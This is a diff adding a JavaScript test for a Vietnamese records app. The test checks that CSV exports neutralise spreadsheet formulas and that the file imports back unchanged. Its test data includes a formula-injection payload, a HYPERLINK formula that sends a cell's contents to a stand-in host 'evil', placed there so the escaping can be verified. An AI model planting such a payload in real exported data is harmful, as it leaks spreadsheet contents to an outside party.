@@ -148,3 +148,37 @@ test('a draft movement is seen only by those who may run it, not by a viewer or 
   assert.equal((await officer.get('/api/v1/movements?q=ban%20nhap')).data.total, 1);
   assert.equal((await admin.get('/api/v1/movements?q=ban%20nhap')).data.total, 1);
 });
+
+test('CSV exports neutralise formulas (=, +, -, @, tab, CR) with an apostrophe, and the import reads them back unchanged', async () => {
+  const fs = await import('node:fs');
+  const path = await import('node:path');
+  const { thidua } = await import('../lib/server.mjs');
+  const own = await mkUnit(admin, 'T-CSVINJ', 'Phòng Xuất dữ liệu', 'agency', unit.id);
+  const names = ['=HYPERLINK("http://evil/?"&A1,"click")', '+84 912 345 678', '-Lê Văn C', '@SUM(A1)', "'Trích dẫn", "'=giữ nguyên"];
+  const codes = [];
+  for (const [i, full_name] of names.entries()) {
+    const r = await admin.post('/api/v1/people', { json: { full_name, gender: 'M', unit_id: own.id, code: `CSVINJ${i}` } });
+    assert.equal(r.status, 201, r.text);
+    codes.push(r.data.code);
+  }
+  const r = await admin.get(`/export/people?under=${own.id}&format=csv`);
+  assert.equal(r.status, 200);
+  const csv = r.text;
+  assert.ok(csv.includes(`"'=HYPERLINK(""http://evil/?""&A1,""click"")"`), csv);
+  assert.ok(csv.includes("'+84 912 345 678"));
+  assert.ok(csv.includes("'-Lê Văn C"));
+  assert.ok(csv.includes("'@SUM(A1)"));
+  assert.ok(csv.includes("''Trích dẫn"));
+  assert.ok(csv.includes("''=giữ nguyên"));
+  for (const line of csv.split('\r\n').slice(1)) assert.ok(!/(^|,)[=+@]/.test(line), line);
+  // the same file imported again changes nothing: every name reads back as it was
+  const f = path.join(env.dir, 'people-guarded.csv');
+  fs.writeFileSync(f, csv);
+  const im = thidua(['import', 'people', f, '--db', env.db]);
+  assert.equal(im.code, 0, im.stderr + im.stdout);
+  assert.match(im.stdout, /0 added, 0 updated/);
+  for (const [i, name] of names.entries()) {
+    const p = await admin.get(`/api/v1/people?unit=${own.id}&limit=100`);
+    assert.ok(p.data.items.some((x) => x.code === `CSVINJ${i}` && x.full_name === name), name);
+  }
+});
